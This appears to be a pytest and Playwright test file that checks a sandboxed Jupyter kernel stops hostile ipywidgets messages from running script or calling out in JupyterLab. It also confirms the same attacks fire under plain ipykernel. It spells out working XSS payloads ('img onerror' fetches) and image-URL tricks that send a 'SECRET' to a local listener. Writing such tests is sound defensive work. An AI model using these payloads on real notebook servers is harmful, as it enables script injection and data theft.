"""Hostile widget messages in JupyterLab and headless Chromium: none runs a script or fetches from another host.

Each attack is sent as raw comm messages (the `comm` package, whose messages the guest glue passes on as they are;
guest code could also write them itself) and the same code runs under plain ipykernel, where it must fire: that is
the proof the detection works. The page is the one holding the Jupyter server's API, so a script there is
the worst thing a widget can do.
"""

# ruff: noqa: F811 (the fixtures of test_jupyterlab are imported by name)
from __future__ import annotations

import base64
import json
import os
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

from conftest import Listener
from test_jupyterlab import (  # noqa: F401 (fixtures)
    CELL_MS,
    CHROMIUM,
    KERNEL,
    UI_MS,
    Lab,
    browser,
    hit_paths,
    kernel_status,
    lab,
    open_notebook,
    page,
    run_cell,
    wait_idle,
)

IPYKERNEL = "Python 3 (ipykernel)"

pytestmark = [
    pytest.mark.slow,
    pytest.mark.timeout(600),
    pytest.mark.skipif(not os.access(CHROMIUM, os.X_OK), reason=f"Chromium not found at {CHROMIUM}"),
]

# Helpers the attack cells share: raw comm messages, as a widget library would send them (or guest code itself).
RAW = r'''
import comm
from IPython.display import display
HIT = "http://127.0.0.1:PORT"
CONTROLS = "@jupyter-widgets/controls"

def act(name):
    """HTML that, drawn raw, marks the page and calls the listener."""
    return "<img src=x onerror=\"document.body.dataset.pwned='" + name + "';fetch('" + HIT + "/" + name + "')\">"

def identity(model, view):
    return {"_model_name": model, "_model_module": CONTROLS, "_model_module_version": "2.0.0",
            "_view_name": view, "_view_module": CONTROLS, "_view_module_version": "2.0.0"}

def widget(model, view, state, buffer_paths=(), buffers=()):
    data = {"state": {**identity(model, view), **state}, "buffer_paths": list(buffer_paths)}
    return comm.create_comm(target_name="jupyter.widget", data=data, metadata={"version": "2.1.0"},
                            buffers=list(buffers))

def show(c):
    view = {"model_id": c.comm_id, "version_major": 2, "version_minor": 1}
    display({"application/vnd.jupyter.widget-view+json": view, "text/plain": "a widget"}, raw=True)

def update(c, state, buffer_paths=(), buffers=()):
    c.send({"method": "update", "state": state, "buffer_paths": list(buffer_paths)}, buffers=list(buffers))
'''

# Each payload class of the attack pass; each calls the listener at its own path if it gets through.
ATTACKS = r"""
h = widget("HTMLModel", "HTMLView", {"value": "<i class='sbx-renamed'>html</i>"}); show(h)
update(h, {"_model_name": "LabelModel", "value": act("rename")})
show(widget("LabelModel", "HTMLView", {"value": act("view-name")}))
t = widget("TextModel", "TextView", {"value": ""}); h2 = widget("HTMLModel", "HTMLView", {"value": "x"})
show(t); show(h2)
link = {**identity("DirectionalLinkModel", None), "source": ["IPY_MODEL_" + t.comm_id, "value"],
        "target": ["IPY_MODEL_" + h2.comm_id, "value"]}
comm.create_comm(target_name="jupyter.widget", data={"state": link, "buffer_paths": []}, metadata={"version": "2.1.0"})
update(t, {"value": act("link")})
far = (HIT + "/dup-buffer?d=SECRET").encode()
show(widget("ImageModel", "ImageView", {"format": "url"}, [["value"], ["value"]], [b"", far]))
i = widget("ImageModel", "ImageView", {"format": "png"}, [["value"]], [b"PNG"]); show(i)
update(i, {"_model_name": "LabelModel", "format": "url"}, [["value"]], [(HIT + "/renamed-image?d=SECRET").encode()])
bom = b"\xef\xbb\xbf" + (HIT + "/bom-url?d=SECRET").encode()  # the browser's TextDecoder drops the mark
show(widget("ImageModel", "ImageView", {"format": "url"}, [["value"]], [bom]))
show(widget("HTMLModel", "HTMLView", {"value": "<b class='sbx-attacks-done'>done</b>"}))
"""
ATTACK_PATHS = {"/rename", "/view-name", "/link", "/dup-buffer", "/renamed-image", "/bom-url"}

# The guest answers the frontend's request_states itself (after a page reload): the HTML widget's raw value at
# the level ipywidgets nests it, and an Image URL given twice (the browser applies the last).
HOSTILE_REPLY = r"""
a = widget("HTMLModel", "HTMLView", {"value": "<b class='sbx-a'>a</b>"}); show(a)
b = widget("ImageModel", "ImageView", {"format": "png"}, [["value"]], [b"PNG"]); show(b)
replied = []
def reply(c, msg):
    entry = lambda model, state: {"model_name": model, "model_module": CONTROLS, "model_module_version": "2.0.0",
                                  "state": state}
    states = {a.comm_id: entry("HTMLModel", {**identity("HTMLModel", "HTMLView"), "value": act("reply-nested")}),
              b.comm_id: entry("ImageModel", {**identity("ImageModel", "ImageView"), "format": "url"})}
    paths = [[b.comm_id, "state", "value"], [b.comm_id, "state", "value"]]
    c.send({"method": "update_states", "states": states, "buffer_paths": paths},
           buffers=[b"", (HIT + "/reply-dup-buffer?d=SECRET").encode()])
    replied.append(1)
comm.get_comm_manager().register_target("jupyter.widget.control", lambda c, msg: c.on_msg(lambda m: reply(c, m)))
print("hostile reply ready")
"""
REPLY_PATHS = {"/reply-nested", "/reply-dup-buffer"}


def code(port: int, *parts: str) -> str:
    """One line that runs `parts` (sent as base64, so nothing in them is typed into the editor as code)."""
    source = "\n".join([RAW, *parts]).replace("PORT", str(port))
    return f"exec(__import__('base64').b64decode('{base64.b64encode(source.encode()).decode()}').decode())"


def settle(page: Page) -> None:
    """Every image in the page has loaded or failed (a fetch one made has reached the listener), and any
    script that got in has had a moment to call out."""
    page.wait_for_function("[...document.images].every(img => img.complete)", timeout=CELL_MS)
    page.wait_for_timeout(1_000)


def wait_for_hits(page: Page, listener: Listener, paths: set[str]) -> None:
    deadline = time.monotonic() + 20
    while not paths <= hit_paths(listener) and time.monotonic() < deadline:
        page.wait_for_timeout(200)
    assert paths <= hit_paths(listener), " ".join(sorted(hit_paths(listener)))


@pytest.fixture
def listener() -> Iterator[Listener]:
    listening = Listener()
    yield listening
    listening.close()


def test_hostile_widget_messages_run_nothing_in_jupyterlab(lab: Lab, page: Page, listener: Listener) -> None:
    open_notebook(page, lab, KERNEL)
    cell = run_cell(page, code(listener.port, ATTACKS))
    expect(cell.locator("b.sbx-attacks-done")).to_have_text("done", timeout=CELL_MS)
    expect(cell.locator("i.sbx-renamed")).to_have_text("html")  # the renaming update did not reach the page
    wait_idle(page, CELL_MS)
    settle(page)
    assert page.evaluate("document.body.dataset.pwned") is None, "a widget message ran a script"
    listener.assert_untouched()
    expect(cell.locator(".jp-OutputArea-output").filter(has_text="a widget message was not sent")).to_have_count(1)
    page.screenshot(path=Path(__file__).parent / "artifacts" / "jupyterlab-hostile-widgets.png")


def test_the_same_widget_messages_fire_under_ipykernel(lab: Lab, page: Page, listener: Listener) -> None:
    """Proof that the test above would catch each: under ipykernel (nothing checks comms) every one fires."""
    open_notebook(page, lab, IPYKERNEL)
    cell = run_cell(page, code(listener.port, ATTACKS))
    expect(cell.locator("b.sbx-attacks-done")).to_have_text("done", timeout=CELL_MS)
    wait_for_hits(page, listener, ATTACK_PATHS)
    assert page.evaluate("document.body.dataset.pwned") is not None


# ---- a page reload: JupyterLab asks the kernel for every live widget (request_states) ---------------------------


def save_and_reload(lab: Lab, page: Page, marker: str) -> None:
    """Save the notebook (its outputs name the widgets; no widget state is saved), then reload the page."""
    before = {p: p.read_text() for p in lab.root.glob("*.ipynb")}
    page.locator('.jp-NotebookPanel-toolbar jp-button[data-command="docmanager:save"]').click()
    deadline = time.monotonic() + UI_MS / 1000
    while not any(marker in p.read_text() and before.get(p) != p.read_text() for p in lab.root.glob("*.ipynb")):
        assert time.monotonic() < deadline, "the notebook was not saved"
        page.wait_for_timeout(250)
    expect(page.locator(".jp-mod-dirty")).to_have_count(0, timeout=UI_MS)
    saved = [json.loads(p.read_text()) for p in lab.root.glob("*.ipynb") if before.get(p) != p.read_text()]
    assert [n["metadata"].get("widgets") for n in saved] == [None], "widget state was saved with the notebook"
    page.reload()
    expect(page.locator(".jp-NotebookPanel")).to_have_count(1, timeout=UI_MS)


@pytest.fixture
def no_saved_widget_state(lab: Lab) -> Iterator[None]:
    """JupyterLab's "save widget state" off: after a reload, the only source of the widgets is the kernel."""
    settings = lab.root.parent / "settings" / "@jupyter-widgets" / "jupyterlab-manager" / "plugin.jupyterlab-settings"
    saved = settings.read_text()
    settings.write_text(json.dumps({"saveState": False}))
    yield
    settings.write_text(saved)


def test_live_widgets_survive_a_page_reload_cleaned(
    lab: Lab, page: Page, listener: Listener, no_saved_widget_state: None
) -> None:
    """ipywidgets' own reply to request_states (each state under states[id]['state']) reaches the page cleaned:
    the slider and the HTML widget are drawn again, the slider is still live, the raw script is not run."""
    open_notebook(page, lab, KERNEL)
    live = (
        "import ipywidgets as w\ns = w.IntSlider(value=42, max=100)\n"
        "hw = w.HTML(\"<b class='sbx-kept'>kept</b>\" + act('reload-real'))\ndisplay(s, hw)"
    )
    cell = run_cell(page, code(listener.port, live))
    expect(cell.locator(".widget-readout")).to_have_text("42", timeout=CELL_MS)
    expect(cell.locator("b.sbx-kept")).to_have_text("kept")
    wait_idle(page, CELL_MS)
    save_and_reload(lab, page, "sbx-kept")
    wait_idle(page)
    first = page.locator(".jp-Notebook .jp-Cell").first
    expect(first.locator(".widget-readout")).to_have_text("42", timeout=UI_MS)
    expect(first.locator("b.sbx-kept")).to_have_text("kept")
    settle(page)
    assert page.evaluate("document.body.dataset.pwned") is None, "the state reply ran a script"
    listener.assert_untouched()
    result = run_cell(page, "s.value = 7; hw.value = \"<i class='sbx-new'>new</i>\"; s.value")
    expect(result.locator(".jp-OutputArea-executeResult .jp-OutputArea-output")).to_have_text("7", timeout=CELL_MS)
    expect(first.locator(".widget-readout")).to_have_text("7")  # the restored slider is the kernel's, live
    expect(first.locator("i.sbx-new")).to_have_text("new")


def hostile_reply_after_reload(lab: Lab, page: Page, listener: Listener, kernel: str) -> Page:
    open_notebook(page, lab, kernel)
    cell = run_cell(page, code(listener.port, HOSTILE_REPLY))
    expect(cell.locator("b.sbx-a")).to_have_text("a", timeout=CELL_MS)
    expect(kernel_status(page)).to_have_attribute("data-status", "idle", timeout=CELL_MS)
    save_and_reload(lab, page, "hostile reply ready")
    return page


def test_a_hostile_state_reply_runs_nothing(
    lab: Lab, page: Page, listener: Listener, no_saved_widget_state: None
) -> None:
    hostile_reply_after_reload(lab, page, listener, KERNEL)
    wait_idle(page)
    result = run_cell(page, "len(replied)")  # the guest did answer the page's request_states
    expect(result.locator(".jp-OutputArea-executeResult .jp-OutputArea-output")).to_have_text("1", timeout=CELL_MS)
    settle(page)
    assert page.evaluate("document.body.dataset.pwned") is None, "the state reply ran a script"
    listener.assert_untouched()


def test_the_same_state_reply_fires_under_ipykernel(
    lab: Lab, page: Page, listener: Listener, no_saved_widget_state: None
) -> None:
    hostile_reply_after_reload(lab, page, listener, IPYKERNEL)
    wait_for_hits(page, listener, REPLY_PATHS)
